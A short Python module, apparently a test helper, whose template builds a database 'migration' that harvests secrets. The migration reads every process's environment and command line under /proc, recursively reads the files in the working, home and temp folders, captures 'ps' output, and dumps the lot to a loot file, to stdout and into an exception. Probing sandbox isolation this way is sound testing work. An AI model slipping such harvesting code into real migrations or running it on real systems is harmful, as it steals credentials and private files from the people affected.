"""A migration that looks for secrets wherever a process can look, and keeps what it has read."""

from pathlib import Path

_LOOKS_ROUND = """\
import os, pathlib, subprocess, sys, tempfile

    found = [repr(dict(os.environ)).encode(), repr(sys.argv).encode()]
    def keep(path):
        try:
            found.append(b"%r: %s" % (str(path).encode(), path.read_bytes()[:1_000_000]))
        except (OSError, ValueError):
            pass
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "auxv", "mountinfo"):
            keep(process / name)
        for folder in ("fd", "cwd", "root", "map_files"):
            try:
                found += [os.fsencode(os.readlink(f)) for f in (process / folder).iterdir()]
            except OSError:
                pass
    for name in ("environ", "maps", "status"):
        keep(pathlib.Path("/proc") / str(os.getppid()) / name)
    left = pathlib.Path(tempfile.gettempdir()).glob("merge-heads-*")
    for folder in (pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path({folder!r}), *left):
        for path in folder.rglob("*"):
            if path.name != {name!r} and path.is_file():
                keep(path)
    subprocess.run(["env", "--null"], check=False)
    found.append(subprocess.run(["ps", "axewww"], capture_output=True, check=False).stdout)
    with open({loot!r}, "ab") as file:
        file.write(b"\\n".join(found))
    print(found)
    raise RuntimeError(repr(found)[:200_000])"""


def looking_round(folder: Path, loot: Path) -> str:
    """Return the body of an upgrade that reads all it can, `folder` included.

    It writes that into the file `loot`, prints it, and fails with it.
    """
    return _LOOKS_ROUND.format(folder=str(folder), loot=str(loot), name=loot.name)
